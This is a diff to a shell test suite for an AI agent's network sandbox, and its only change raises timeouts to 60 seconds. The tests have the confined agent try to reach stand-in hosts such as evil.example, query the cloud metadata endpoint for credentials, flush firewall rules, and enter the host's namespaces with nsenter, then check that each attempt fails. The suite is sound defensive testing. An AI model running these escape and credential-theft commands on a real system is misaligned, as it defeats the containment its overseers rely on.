@@ -41,11 +41,11 @@ s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, soc
 s.settimeout(60)
 s.connect((sys.argv[1], 443))' "$a"
 done
-out=$(agent nc -zvw20 $EVIL4 443 2>&1)
+out=$(agent nc -zvw60 $EVIL4 443 2>&1)
 has "TCP learns by RST" "$out" 'refused'
-out=$(agent ping -c1 -W20 $EVIL4 2>&1)
+out=$(agent ping -c1 -W60 $EVIL4 2>&1)
 has "ping learns by ICMP" "$out" 'prohibited|[Ff]iltered|not permitted|administratively'
-out=$(agent ping -c1 -W20 $EVIL6 2>&1)
+out=$(agent ping -c1 -W60 $EVIL6 2>&1)
 has "ping learns by ICMPv6" "$out" 'prohibited|[Ff]iltered|not permitted|administratively'
 audited "the kernel's denials are in the audit log" '"deny"' "$(reason default-deny)"
 sniff_stop programs
@@ -55,10 +55,10 @@ same "none of it arrived" "$(sniff_print programs "$own and not port 53")" ""
 out=$(agent bash -c 'ip link del eth0; tc qdisc del dev eth0 clsact; nft flush ruleset
 	ip addr add 198.51.100.2/24 dev eth0; ip route add 203.0.113.0/24 dev eth0
 	ip link add d0 type veth peer name d1; ip link set eth0 up
-	curl -sSm20 https://evil.example/; curl -sSm20 http://169.254.169.254/; echo TRIED' 2>&1)
+	curl -sSm60 https://evil.example/; curl -sSm60 http://169.254.169.254/; echo TRIED' 2>&1)
 hasnt "root that rebuilds its own network gets nowhere" "$out" 'evil$|SECRET-CRED'
 has "all of that was tried, too" "$out" '^TRIED'
-out=$(agent bash -c 'nsenter -t 1 -n curl -sm20 http://169.254.169.254/; unshare -n true && echo NETNS
+out=$(agent bash -c 'nsenter -t 1 -n curl -sm60 http://169.254.169.254/; unshare -n true && echo NETNS
 	nsenter --net=/proc/1/ns/net true && echo ENTERED; mount -t tmpfs x /tmp && echo MOUNTED; echo TRIED' 2>&1)
 hasnt "no other namespace can be entered" "$out" 'ENTERED|SECRET-CRED|MOUNTED'
 has "all of that was tried" "$out" '^TRIED'
@@ -108,6 +108,6 @@ out=$(agent curl -sS "$CHAT" -d "$ASK" 2>&1)
 has "and the allowed request still passes" "$out" 'Permission to leave granted'
 refuse "no QUIC arrived" test -s "$WORLD/log/quic.seen"
 echo SECRET | nc -u -w1 $OPENAI4 443
-check "and somebody waits for it" world_wait 30 test -s "$WORLD/log/quic.seen"
+check "and somebody waits for it" world_wait 60 test -s "$WORLD/log/quic.seen"
 
 tap_done
